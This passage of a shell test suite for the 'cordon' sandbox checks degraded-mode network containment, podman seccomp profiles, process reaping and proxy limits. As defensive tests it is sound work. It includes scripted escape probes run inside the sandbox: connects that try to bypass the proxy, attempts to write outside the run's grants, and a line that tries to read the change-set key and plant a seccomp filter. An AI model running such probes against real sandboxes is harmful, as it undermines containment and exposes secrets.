	T_SERVERS+=("$srv" "$srv2")
	trap stop_servers EXIT
	cat >"$T_TMP/p.json" <<JSON
{"network": {"allow": [{"host": "127.0.0.1:$port", "methods": ["GET"], "paths": ["/pub/**"]}]},
 "enforcement": {"allow_weaker": ["namespaces"]}}
JSON
	cat >"$T_TMP/net.py" <<'EOF'
import errno, socket, sys
port, other = int(sys.argv[1]), int(sys.argv[2])
def tryit(what, f):
    try:
        f()
        print(what, "got-through")
    except OSError as e:
        print(what, errno.errorcode.get(e.errno, e.errno))
def conn(p, fam=socket.AF_INET, host="127.0.0.1"):
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.connect((host, p))
tryit("raw-undeclared", lambda: conn(other))
tryit("raw-declared", lambda: conn(port))
tryit("raw-v6-mapped", lambda: conn(other, socket.AF_INET6, "::ffff:127.0.0.1"))
tryit("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
tryit("unix", lambda: socket.socket(socket.AF_UNIX, socket.SOCK_STREAM))
tryit("bind", lambda: socket.socket().bind(("127.0.0.1", 0)))
tryit("listen", lambda: socket.socket().listen(1))
tryit("fastopen", lambda: socket.socket().sendto(b"GET / HTTP/1.0\r\n\r\n", socket.MSG_FASTOPEN, ("127.0.0.1", other)))
def proxied():
    s = socket.create_connection(("127.0.0.1", 3128))
    s.sendall(b"GET http://127.0.0.1:%d/pub/a.txt HTTP/1.0\r\n\r\n" % port)
    print("proxied", s.recv(4096).split(b"\r\n")[0].decode())
tryit("via-proxy", proxied)
EOF
	chmod 644 "$T_TMP/net.py" "$T_TMP/p.json"
	local den
	for who in $users; do
		mkdir -p "$T_TMP/ws-$who"
		[ "$who" = nobody ] && chown 65534:65534 "$T_TMP/ws-$who"
		cd "$T_TMP/ws-$who" || return
		degraded_run "$who" --policy "$T_TMP/p.json" --ro "$T_TMP/net.py" -- /bin/sh -c "
			echo \"proxy=\$http_proxy\"
			curl -sS http://127.0.0.1:$port/pub/a.txt
			curl -s -o /dev/null -w 'priv %{http_code}\n' http://127.0.0.1:$port/priv/b.txt
			python3 $T_TMP/net.py $port $other"
		expect_eq "$RC" 0 "$who: it runs ($ERR)"
		expect_match "$OUT" "^proxy=http://127.0.0.1:3128$" "$who: the proxy variables ($OUT)"
		expect_match "$OUT" "^pub$" "$who: the endpoint reached through the proxy"
		expect_match "$OUT" "^priv 403$" "$who: a method/path rule refuses a request"
		expect_match "$OUT" "^proxied HTTP/1.[01] 200" "$who: a raw connect to the proxy's address reaches the proxy"
		expect_match "$OUT" "^raw-undeclared ECONNREFUSED$" "$who: a raw connect to an undeclared port refused"
		expect_match "$OUT" "^raw-declared ECONNREFUSED$" "$who: a raw connect to the endpoint itself refused (only through the proxy)"
		expect_match "$OUT" "^raw-v6-mapped ECONNREFUSED$" "$who: and through an IPv6 socket"
		expect_match "$OUT" "^udp EPERM$" "$who: no UDP socket"
		expect_match "$OUT" "^unix EPERM$" "$who: no unix socket"
		expect_match "$OUT" "^bind EACCES$" "$who: no bind"
		expect_match "$OUT" "^listen EACCES$" "$who: no listen"
		expect_match "$OUT" "^fastopen (EOPNOTSUPP|ENOTSUP)$" "$who: no TCP Fast Open connect"
		expect_nomatch "$OUT" "^(raw|udp|unix|bind|listen|fastopen)[^ ]* got-through" "$who: nothing else got through"
		den=$(field '[.denials[] | select(.kind=="network") | .target] | join(",")')
		expect_match "$den" "(^|,)127\\.0\\.0\\.1:$other(,|$)" "$who: the undeclared port in the denials ($den)"
		expect_match "$den" "GET 127\\.0\\.0\\.1:$port/priv/b\\.txt" "$who: the refused request in the denials"
		expect_eq "$(field '.network.requests[0].path')" /pub/a.txt "$who: the proxy's request log"
		expect_match "$(field '.enforcement.degraded | join("\n")')" "network: the host.s, bounded by the proxy" "$who: the report says the proxy bounds it"
		expect_nomatch "$(field '.enforcement.degraded | join("\n")')" "unbounded" "$who: and not that it is unbounded"
	done
	# on_violation kill: a refused connect is seen while the run goes on,
	# and ends it.
	cat >"$T_TMP/pk.json" <<JSON
{"network": {"allow": ["127.0.0.1:$port"]}, "on_violation": "kill",
 "enforcement": {"allow_weaker": ["namespaces"]}}
JSON
	chmod 644 "$T_TMP/pk.json"
	cd "$T_TMP/ws-$who" || return
	degraded_run "$who" --policy "$T_TMP/pk.json" -- /bin/sh -c "
		python3 -c 'import socket; socket.socket().connect((\"127.0.0.1\", $other))' 2>/dev/null
		sleep 20; echo went-on"
	expect_eq "$OUT:$(field .status)" ":denied" "on_violation kill: the refused connect ends the run ($ERR)"
	t_assert
}

# A process that made itself non-dumpable (PR_SET_DUMPABLE 0, as ssh-agent
# and gpg-agent do, or the exec of a file it cannot read) is not readable by
# a supervisor of an ordinary user: its connect was answered EFAULT, neither
# a denial nor a cause for on_violation kill (outside review attack13).
test_hosts_degraded_nondumpable_connect_is_a_denial() {
	need_restrict || return
	[ "$(landlock_abi)" -ge 6 ] || { t_skip "an ordinary user's degraded run with the proxy needs Landlock ABI 6"; return; }
	local who=self
	[ "$(id -u)" = 0 ] && who=nobody
	chmod 755 "$T_TMP"
	mkdir -p "$T_TMP/ws" "$T_TMP/home"
	chmod 777 "$T_TMP/home"
	[ "$who" = nobody ] && chown 65534:65534 "$T_TMP/ws"
	cat >"$T_TMP/nd.py" <<'EOF'
import ctypes, errno, socket, sys
ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)  # PR_SET_DUMPABLE 0
try:
    socket.socket().connect(("127.0.0.1", int(sys.argv[1])))
    print("connect got-through")
except OSError as e:
    print("connect", errno.errorcode.get(e.errno, e.errno))
sys.stdout.flush()
EOF
	cat >"$T_TMP/nd.json" <<JSON
{"network": {"allow": ["127.0.0.1:1"]}, "enforcement": {"allow_weaker": ["namespaces"]}}
JSON
	cat >"$T_TMP/ndk.json" <<JSON
{"network": {"allow": ["127.0.0.1:1"]}, "on_violation": "kill",
 "enforcement": {"allow_weaker": ["namespaces"]}}
JSON
	chmod 644 "$T_TMP/nd.py" "$T_TMP/nd.json" "$T_TMP/ndk.json"
	cd "$T_TMP/ws" || return
	degraded_run "$who" --policy "$T_TMP/nd.json" --ro "$T_TMP/nd.py" -- python3 "$T_TMP/nd.py" 9
	expect_eq "$RC" 0 "it runs ($ERR)"
	expect_eq "$OUT" "connect ECONNREFUSED" "the non-dumpable process's connect refused as any other"
	expect_match "$(field '[.denials[] | select(.kind=="network") | .target] | join(",")')" "non-dumpable" \
		"and a network denial"
	degraded_run "$who" --policy "$T_TMP/ndk.json" --ro "$T_TMP/nd.py" -- /bin/sh -c "
		python3 $T_TMP/nd.py 9; sleep 20; echo went-on"
	expect_eq "$(field .status)" denied "on_violation kill: it ends the run ($OUT; $ERR)"
	expect_nomatch "$OUT" went-on "and the run does not go on"
	t_assert
}

# A process that flips itself dumpable and not, from another thread, while
# it connects: the supervisor's read of its address, of its socket
# (pidfd_getfd) and of its descriptor's flags (fdinfo) each need ptrace
# access, which may go between one and the next. A connect is then made
# (the proxy) or refused and a denial, never answered otherwise (EBADF and
# a refusal without a denial were).
test_hosts_degraded_dumpable_flip_race() {
	need_restrict || return
	[ "$(id -u)" = 0 ] || { t_skip "runs cordon as nobody from root (an ordinary user's supervisor, without CAP_SYS_PTRACE)"; return; }
	[ "$(landlock_abi)" -ge 6 ] || { t_skip "an ordinary user's degraded run with the proxy needs Landlock ABI 6"; return; }
	chmod 755 "$T_TMP"
	mkdir -p "$T_TMP/ws-flip" "$T_TMP/home"
	chmod 777 "$T_TMP/home"
	chown 65534:65534 "$T_TMP/ws-flip"
	cat >"$T_TMP/flip.py" <<'EOF'
import collections, ctypes, errno, socket, sys, threading
libc = ctypes.CDLL(None)
def flip():
    while True:
        libc.prctl(4, 0, 0, 0, 0)  # PR_SET_DUMPABLE 0
        libc.prctl(4, 1, 0, 0, 0)
threading.Thread(target=flip, daemon=True).start()
seen = collections.Counter()
for i in range(int(sys.argv[1])):
    s = socket.socket()
    try:
        s.connect(("127.0.0.1", 3128))
        seen["ok"] += 1
    except OSError as e:
        seen[errno.errorcode.get(e.errno, str(e.errno))] += 1
    s.close()
print(" ".join("%s=%d" % kv for kv in sorted(seen.items())))
EOF
	cat >"$T_TMP/flip.json" <<JSON
{"network": {"allow": ["127.0.0.1:1"]}, "enforcement": {"allow_weaker": ["namespaces"]}}
JSON
	chmod 644 "$T_TMP/flip.py" "$T_TMP/flip.json"
	cd "$T_TMP/ws-flip" || return
	degraded_run nobody --policy "$T_TMP/flip.json" --ro "$T_TMP/flip.py" -- python3 "$T_TMP/flip.py" 3000
	expect_eq "$RC" 0 "it runs ($ERR)"
	expect_match "$OUT" "^(ECONNREFUSED|ok)=[0-9]+( ok=[0-9]+)?$" "each connect made or refused, nothing else"
	local refused
	refused=$(printf '%s' "$OUT" | sed -n 's/.*ECONNREFUSED=\([0-9]*\).*/\1/p')
	[ -n "$refused" ] && expect_match "$(field '[.denials[] | select(.kind=="network") | .target] | join(",")')" "non-dumpable" \
		"a refused one is a denial"
	t_assert
}

# Where the namespaces can be had, allow_weaker "namespaces" changes nothing.
test_hosts_allow_weaker_namespaces_unused_where_they_hold() {
	cordon_run --allow-weaker namespaces -- /bin/true
	expect_eq "$RC:$(field .enforcement.user_ns):$(field '.enforcement.degraded | length'):$(field .verdicts.containment)" "0:true:0:clean" "the whole boundary ($ERR)"
	t_assert
}

# In podman containers (issue 35.3): the cached Debian root
# (scripts/debian-root.sh) as the container's root through --rootfs, an
# overlay over it (nothing pulled, nothing written into the cache), cordon's
# build directory bound read-only; private storage. With a Docker-like
# seccomp profile (clone3 ENOSYS, unshare and clone with CLONE_NEWUSER
# EPERM) and with podman's own default profile; as root and as nobody
# inside.
PM_DIR=""
pm() {
	local rt=()
	command -v runc >/dev/null && rt=(--runtime "$(command -v runc)")
	timeout -k 5 120 podman --root "$PM_DIR/root" --runroot "$PM_DIR/runroot" --tmpdir "$PM_DIR/tmp" \
		--storage-driver vfs --cgroup-manager cgroupfs --events-backend file "${rt[@]}" "$@"
}
need_podman_root() {
	[ "$(id -u)" = 0 ] || { t_skip "not root (podman and the Debian root need root)"; return; }
	command -v podman >/dev/null || { t_skip "no podman (Debian: podman)"; return; }
	DEBIAN_ROOT=$("$TOP/scripts/debian-root.sh" --cached) ||
		{ t_skip "no Debian root cached (scripts/debian-root.sh)"; return; }
	PM_DIR=$T_TMP/pm
	mkdir -p "$PM_DIR/tmp"
}
# in_podman PROFILE SCRIPT: runs SCRIPT (sh) in a container with seccomp
# PROFILE (a file, or "default"); its output in OUT, RC.
in_podman() {
	local sec=()
	[ "$1" = default ] || sec=(--security-opt "seccomp=$1")
	printf '%s\n' "$2" >"$T_TMP/pod.sh"
	OUT=$(pm run --rm --network none --pull never --ulimit "nofile=$(ulimit -Hn):$(ulimit -Hn)" \
		--ulimit nproc=4096:4096 "${sec[@]}" -v "$BUILD:/cordon:ro" -v "$T_TMP/pod.sh:/pod.sh:ro" \
		--rootfs "$DEBIAN_ROOT:O" /bin/sh /pod.sh 2>&1)
	RC=$?
}
# What each run inside tries (as root, then as nobody): the default run is
# refused with explain's words (the run adds the call's own error); with --allow-weaker namespaces it runs, a
# write outside its grants and an inet socket are refused, and its report
# says weaker.
POD_SCRIPT='
mkdir -p /w /h/p /out && chown 65534:65534 /h /h/p && chmod 777 /out && cd /w
try() { # WHO: the same from /w (root) or /h/p (nobody)
	v=$($1 /cordon/cordon explain -- /bin/true | sed -n "s/^verdict: //p")
	e=$($1 /cordon/cordon run -- /bin/true 2>&1)
	case $e in "cordon: $v"*) echo "$2 same-words" ;; *) echo "$2 explain=[$v] run=[$e]" ;; esac
	$1 /cordon/cordon run --allow-weaker namespaces --report /h/$2.json -- sh -c "
		{ echo x >/out/escape; } 2>/dev/null && echo wrote-outside
		python3 -c \"import socket; socket.socket(socket.AF_INET)\" 2>/dev/null && echo inet-socket
		echo ran" 2>/dev/null | sed "s/^/$2 /"
	grep -o "\"containment\": \"[a-z]*\"" /h/$2.json | sed "s/^/$2 /"
}
try "" root
cd /h/p && try "env HOME=/h setpriv --reuid 65534 --regid 65534 --clear-groups" nobody
ls /out
'

test_hosts_podman_docker_like_profile() {
	need_podman_root || return
	cat >"$T_TMP/docker-like.json" <<'J'
{"defaultAction": "SCMP_ACT_ALLOW",
 "syscalls": [
  {"names": ["clone3"], "action": "SCMP_ACT_ERRNO", "errnoRet": 38},
  {"names": ["unshare", "setns"], "action": "SCMP_ACT_ERRNO", "errnoRet": 1},
  {"names": ["clone"], "action": "SCMP_ACT_ERRNO", "errnoRet": 1,
   "args": [{"index": 0, "value": 268435456, "valueTwo": 268435456, "op": "SCMP_CMP_MASKED_EQ"}]}
 ]}
J
	in_podman "$T_TMP/docker-like.json" "$POD_SCRIPT"
	expect_eq "$RC" 0 "podman run ($OUT)"
	local who
	for who in root nobody; do
		expect_match "$OUT" "^$who same-words$" "$who: the refused run says what explain says"
		expect_match "$OUT" "^$who ran$" "$who: --allow-weaker namespaces runs"
		expect_match "$OUT" "^$who \"containment\": \"weaker\"$" "$who: the report says weaker"
	done
	expect_nomatch "$OUT" "wrote-outside|inet-socket|escape" "nothing got through"
	pm rm --all --force --time 0 >/dev/null 2>&1
	t_assert
}

# podman's default profile allows the namespaces, but its /proc has masked
# paths and root inside has no CAP_SYS_ADMIN: the view cannot be built.
# Not asked, the run is refused in explain's words (then the step's:
# "fsmount proc: ..."); with allow_weaker it degrades, saying so.
test_hosts_podman_default_profile() {
	need_podman_root || return
	in_podman default '
mkdir -p /w && cd /w
v=$(/cordon/cordon explain -- /bin/true | sed -n "s/^verdict: //p")
echo "without: $v"
e=$(/cordon/cordon run -- /bin/true 2>&1)
case $e in "cordon: $v"*) echo same-words ;; *) echo "explain=[$v] run=[$e]" | tr "\047" _ ;; esac
/cordon/cordon explain --allow-weaker namespaces -- /bin/true | sed -n "s/^verdict: //p"
/cordon/cordon run --allow-weaker namespaces --report /r.json -- /bin/true && echo ran
grep -o "\"containment\": \"[a-z]*\"" /r.json'
	expect_eq "$RC" 0 "podman run ($OUT)"
	expect_match "$OUT" '^would run' "explain's verdict"
	expect_match "$OUT" '^ran$' "the run"
	if printf '%s' "$OUT" | grep -q '^would run weaker'; then
		expect_match "$OUT" "^would run weaker: the run's (/proc|binds): .* from (fsmount|fsopen|open_tree)" "what fails there, said"
		expect_match "$OUT" '"containment": "weaker"' "the report says weaker"
		expect_match "$OUT" "^without: setup-error: the run's (/proc|binds): .*; enforcement.allow_weaker \\[\"namespaces\"\\] runs without them" "explain, not asked: refused, said why"
		expect_match "$OUT" "^same-words$" "the refused run, not asked, says what explain says (not the step's error alone)"
	fi
	pm rm --all --force --time 0 >/dev/null 2>&1
	t_assert
}

# The degraded proxy where it is meant for: a container's root, with the
# default capabilities (no CAP_SYS_PTRACE) and a Docker-like profile.
# cordon reads each connect as the run's uid: the endpoint is reached
# through the proxy, another port refused and a denial.
test_hosts_podman_degraded_proxy_without_ptrace() {
	need_podman_root || return
	[ "$(landlock_abi)" -ge 6 ] || { t_skip "reading as the run's uid needs Landlock ABI 6"; return; }
	cat >"$T_TMP/docker-like.json" <<'J'
{"defaultAction": "SCMP_ACT_ALLOW",
 "syscalls": [
  {"names": ["clone3"], "action": "SCMP_ACT_ERRNO", "errnoRet": 38},
  {"names": ["unshare", "setns"], "action": "SCMP_ACT_ERRNO", "errnoRet": 1},
  {"names": ["clone"], "action": "SCMP_ACT_ERRNO", "errnoRet": 1,
   "args": [{"index": 0, "value": 268435456, "valueTwo": 268435456, "op": "SCMP_CMP_MASKED_EQ"}]}
 ]}
J
	in_podman "$T_TMP/docker-like.json" '
mkdir -p /srv/pub /w && echo pub >/srv/pub/a.txt && cd /w
python3 -c "import re; e = int(re.search(r\"CapEff:\s*(\w+)\", open(\"/proc/self/status\").read()).group(1), 16); print(\"ptrace\", \"yes\" if e >> 19 & 1 else \"no\")"
python3 -m http.server -b 127.0.0.1 -d /srv 8765 >/dev/null 2>&1 &
for i in $(seq 50); do python3 -c "import socket; socket.create_connection((\"127.0.0.1\", 8765))" 2>/dev/null && break; sleep 0.1; done
/cordon/cordon run --allow-weaker namespaces --net 127.0.0.1:8765 --report /r.json -- python3 -c "
import errno, socket
s = socket.create_connection((\"127.0.0.1\", 3128))
s.sendall(b\"GET http://127.0.0.1:8765/pub/a.txt HTTP/1.0\r\n\r\n\")
print(\"proxied\", s.recv(4096).split(b\"\r\n\")[0].decode())
try:
    socket.socket().connect((\"127.0.0.1\", 8765))
    print(\"raw got-through\")
except OSError as e:
    print(\"raw\", errno.errorcode.get(e.errno, e.errno))
" 2>&1
python3 -c "import json; r = json.load(open(\"/r.json\")); print(\"denials\", \",\".join(d[\"target\"] for d in r[\"denials\"] if d[\"kind\"] == \"network\"))"'
	expect_eq "$RC" 0 "podman run ($OUT)"
	expect_match "$OUT" "^ptrace no$" "the container's root has no CAP_SYS_PTRACE"
	expect_match "$OUT" "^proxied HTTP/1.[01] 200" "the endpoint reached through the proxy"
	expect_match "$OUT" "^raw ECONNREFUSED$" "a raw connect refused"
	expect_match "$OUT" "^denials 127.0.0.1:8765$" "and a denial"
	pm rm --all --force --time 0 >/dev/null 2>&1
	t_assert
}

# The degraded boundary has no mount namespace, so nothing can be masked:
# where the run's grants reach the state directory (the change-set key, the
# compiled seccomp programs later runs load, kept change sets), it could
# read the key and forge a change set, or plant an allow-all filter for
# every later run, the whole boundary's too. Such a run needs a view of its
# own: refused (outside review attack11).
test_hosts_degraded_refused_where_the_state_directory_is_reached() {
	need_restrict || return
	[ "$(landlock_abi)" -ge 1 ] || { t_skip "no Landlock: the degraded boundary is refused here"; return; }
	local as=()
	if [ "$(id -u)" = 0 ] && [ "$(landlock_abi)" -ge 6 ]; then
		as=(setpriv --reuid 65534 --regid 65534 --clear-groups env HOME="$T_TMP/sdhome")
	elif [ "$(id -u)" != 0 ] && [ "$(landlock_abi)" -lt 6 ]; then
		t_skip "an ordinary user's degraded run needs Landlock ABI 6"
		return
	fi
	chmod 755 "$T_TMP"
	mkdir -p "$T_TMP/sdhome/proj"
	[ ${#as[@]} -gt 0 ] && chown -R 65534:65534 "$T_TMP/sdhome"
	cd "$T_TMP/sdhome/proj" || return
	export CORDON_STATE_DIR="$T_TMP/sdhome/proj/st"
	"${as[@]}" "$CORDON" run -- /bin/true || fail "a run that makes the state directory"
	# the program cache's directory (a host where none was stored, as the
	# test guest's root: made here; what is tried is the plant)
	[ -d st/seccomp ] || mkdir -p st/seccomp
	local out rc
	out=$("${as[@]}" "$RESTRICT" nouserns "$CORDON" run --allow-weaker namespaces --ro "$BUILD" -- \
		/bin/sh -c 'cat st/changeset.key >/dev/null 2>&1 && echo read-the-key; : >st/seccomp/planted 2>/dev/null && echo planted; echo ran' 2>&1)
	rc=$?
	expect_nomatch "$out" "read-the-key" "a degraded run read the change-set key"
	expect_nomatch "$out" "planted" "a degraded run wrote into the seccomp program cache"
	[ -e st/seccomp/planted ] && fail "a file planted in the seccomp program cache"
	[ "$rc" != 0 ] || fail "the degraded run was not refused: $out"
	expect_match "$out" "has no view of the run's own, which the mask over $CORDON_STATE_DIR" "the refusal says why"
	unset CORDON_STATE_DIR
	t_assert
}

# A degraded run whose supervisor is SIGKILLed (a harness's timeout, the
# OOM killer) leaves its processes behind: no PID namespace ends them with
# init, and the parent-death signal reaches only init and the command, not
# what the command started. The next look for leftover cgroups ends them:
# cgroup.kill where there is one, else (cgroup v1) each process in the
# cgroup killed by pidfd, then the cgroup removed. Before, v1 had only
# cgroup.kill, which it has not: the processes and the cgroup stayed for
# good (outside review attack11).
test_hosts_degraded_leftover_processes_ended_by_the_next_look() {
	need_restrict || return
	[ "$(landlock_abi)" -ge 1 ] || { t_skip "no Landlock: the degraded boundary is refused here"; return; }
	[ "$(id -u)" = 0 ] || [ "$(landlock_abi)" -ge 6 ] || { t_skip "an ordinary user's degraded run needs Landlock ABI 6"; return; }
	[ "$(cg_backend)" != none ] || { t_skip "no cgroup backend for limits here"; return; }
	local tag=$((7200000 + RANDOM)) sup left i
	export CORDON_STATE_DIR="$T_TMP/sd-reap"
	mkdir -p "$T_TMP/ws-reap"
	chmod 755 "$T_TMP"
	cd "$T_TMP/ws-reap" || return
	"$RESTRICT" nouserns "$CORDON" run --allow-weaker namespaces --ro "$BUILD" -- \
		/bin/sh -c "nohup python3 -c \"b = b'x' * (768 << 20); import time; time.sleep($tag)\" >/dev/null 2>&1 & exec sleep $((tag + 1))" >/dev/null 2>"$T_TMP/err-reap" &
	sup=$!
	# The leftover holds 768 MiB it touched: its exit (after cgroup.kill)
	# takes a while, and the cgroup is removable only once it is over.
	for i in $(seq 300); do
		left=$(pgrep -f "^python3 -c b = .*time.sleep\($tag\)")
		[ -n "$left" ] && awk '$1 == "VmRSS:" && $2 > 700000 {f = 1} END {exit !f}' "/proc/$left/status" 2>/dev/null && break
		sleep 0.1
	done
	left=$(pgrep -f "^python3 -c b = .*time.sleep\($tag\)")
	if [ -z "$left" ]; then
		kill -KILL "$sup" 2>/dev/null
		wait "$sup" 2>/dev/null
		fail "the degraded run did not start: $(head -c 300 "$T_TMP/err-reap")"
		t_assert
		return
	fi
	local cg
	case $(cg_backend) in
	v2) cg=$(cg2_root)$(sed -n 's/^0:://p' "/proc/$left/cgroup") ;;
	v1) cg=$(awk '$9=="cgroup" && ("," $NF ",") ~ /,pids,/ {print $5; exit}' /proc/self/mountinfo)$(awk -F: '$2=="pids" {print $3}' "/proc/$left/cgroup") ;;
	esac
	kill -KILL "$sup"
	wait "$sup" 2>/dev/null
	rm -f "$CORDON_STATE_DIR/cgroup-reaped"
	"$CORDON" run -- /bin/true || fail "the next run"
	for i in $(seq 50); do
		kill -0 "$left" 2>/dev/null || break
		sleep 0.1
	done
	if kill -0 "$left" 2>/dev/null; then
		fail "a process of the SIGKILLed supervisor's degraded run left behind after the next look"
		kill -KILL "$left" 2>/dev/null
	fi
	# The look's wait is bounded (one second for all it found): an exit
	# that outlasts it (768 MiB to free on a loaded machine) leaves the
	# empty cgroup to the next look, which removes it.
	case $cg in */cordon-*)
		if [ -d "$cg" ] && ! kill -0 "$left" 2>/dev/null; then
			rm -f "$CORDON_STATE_DIR/cgroup-reaped"
			"$CORDON" run -- /bin/true || fail "the look after"
		fi
		[ -d "$cg" ] && fail "its cgroup $cg left behind" ;;
	esac
	t_assert
}

# The degraded proxy's CA bundle is a directory of /tmp named after its
# supervisor (PID and start time): a SIGKILLed supervisor's is removed by the
# next run's leftover look, a live one's never.
test_hosts_degraded_ca_dir_of_a_killed_supervisor_removed() {
	need_restrict || return
	[ "$(id -u)" = 0 ] || { t_skip "runs the degraded boundary as root (a uid of the run's own)"; return; }
	[ "$(landlock_abi)" -ge 4 ] || { t_skip "the degraded boundary keeps the proxy from Landlock ABI 4 (TCP rules) on"; return; }
	local tag=$((7300000 + RANDOM)) sup dir i
	export CORDON_STATE_DIR="$T_TMP/sd-ca"
	mkdir -p "$T_TMP/ws-ca"
	chmod 755 "$T_TMP"
	cat >"$T_TMP/ca.json" <<'JSON'
{"network": {"allow": [{"host": "127.0.0.1:1", "paths": ["/x/**"]}]}, "enforcement": {"allow_weaker": ["namespaces"]}}
JSON
	chmod 644 "$T_TMP/ca.json"
	cd "$T_TMP/ws-ca" || return
	"$RESTRICT" nouserns "$CORDON" run --policy "$T_TMP/ca.json" --ro "$BUILD" -- \
		/bin/sh -c "echo \"\$SSL_CERT_FILE\"; exec sleep $tag" >"$T_TMP/out-ca" 2>"$T_TMP/err-ca" &
	sup=$!
	for i in $(seq 300); do
		[ -s "$T_TMP/out-ca" ] && pgrep -f "^sleep $tag\$" >/dev/null && break
		sleep 0.1
	done
	dir=$(dirname "$(head -1 "$T_TMP/out-ca")")
	if [ ! -d "$dir" ]; then
		kill -KILL "$sup" 2>/dev/null
		wait "$sup" 2>/dev/null
		fail "the degraded run's CA bundle not found ($dir: $(head -c 300 "$T_TMP/err-ca"))"
		t_assert
		return
	fi
	expect_match "$dir" "^/tmp/cordon-ca-$sup-[0-9]+-......\$" "named after its supervisor"
	rm -f "$CORDON_STATE_DIR/cgroup-reaped"
	"$CORDON" run -- /bin/true || fail "a run beside it"
	[ -f "$dir/ca.pem" ] || fail "a live supervisor's CA bundle was removed by another run's look"
	kill -KILL "$sup"
	wait "$sup" 2>/dev/null
	for i in $(seq 50); do
		pgrep -f "^sleep $tag\$" >/dev/null || break
		sleep 0.1
	done
	# (Another test's run, looking meanwhile, may have removed it already:
	# rightly so. Without the look nothing does.)
	rm -f "$CORDON_STATE_DIR/cgroup-reaped"
	"$CORDON" run -- /bin/true || fail "the next run"
	if [ -e "$dir" ]; then
		fail "the SIGKILLed supervisor's CA bundle $dir left behind after the next look"
		rm -rf "$dir"
	fi
	t_assert
}

# The degraded boundary's connects to the proxy come in through the
# hand-off listener (sup-degrade-net.c): their sockets get the proxy's
# fixed buffers as an accepted one does (pxconn.h). Before, they kept the
# kernel's (autotuned: megabytes of send buffer towards a run that reads
# nothing), outside the 896 KiB a relay counts in the 256 MiB budget.
# Downloads the run never reads; the supervisor's sockets by ss -m.
test_hosts_degraded_proxy_buffers_fixed() {
	need_restrict || return
	command -v ss >/dev/null || { t_skip "needs ss (iproute2)"; return; }
	[ "$(landlock_abi)" -ge 4 ] || { t_skip "the degraded boundary keeps the proxy from Landlock ABI 4"; return; }
	[ "$(id -u)" = 0 ] || [ "$(landlock_abi)" -ge 6 ] || { t_skip "an ordinary user's degraded run needs Landlock ABI 6"; return; }
	serve big 16
	local srv=$SRV
	T_SERVERS+=("$srv")
	trap stop_servers EXIT
	mkdir -p "$T_TMP/ws-buf"
	chmod 755 "$T_TMP"
	chmod 777 "$T_TMP/ws-buf"
	cd "$T_TMP/ws-buf" || return
	"$RESTRICT" nouserns "$CORDON" run --workspace-mode direct --report "$T_TMP/buf.json" --allow-weaker namespaces \
		--net "127.0.0.1:$PORT" --ro "$BUILD" -- /usr/bin/python3 -c "
import os, socket, time
conns = []
for i in range(4):
    s = socket.create_connection(('127.0.0.1', 3128))
    s.sendall(b'CONNECT 127.0.0.1:$PORT HTTP/1.1\r\n\r\n')
    s.recv(39)
    conns.append(s)
open('ready', 'w').close()
for i in range(300):
    if os.path.exists('measured'):
        break
    time.sleep(0.1)" >/dev/null 2>"$T_TMP/buf.err" &
	local sup=$!
	for _ in $(seq 300); do [ -e ready ] && break; sleep 0.1; done
	sleep 1.5
	local m
	m=$(/usr/bin/python3 "$TOP/tests/sockmem.py" "$sup" established)
	touch measured
	wait $sup
	local rc=$?
	R=$T_TMP/buf.json
	keep_report "$R"
	local n tbmax held
	read -r n _ tbmax held _ <<<"$m"
	held=$((held >> 10))
	expect_eq "$rc" 0 "the degraded run ran ($(tail -3 "$T_TMP/buf.err"))"
	expect_eq "$([ -e ready ] && echo yes)" yes "its 4 downloads were relayed"
	[ "${n:-0}" -ge 8 ] || fail "the supervisor's relay sockets found: $n (4 to the run, 4 upstream)"
	[ "${tbmax:-0}" -le 131072 ] || fail "largest send buffer of the supervisor's sockets: $tbmax (fixed at 2 x 64 KiB); $held KiB held"
	t_assert
}

for t in $(declare -F | awk '{print $3}' | grep '^test_hosts_'); do t_run "$t"; done
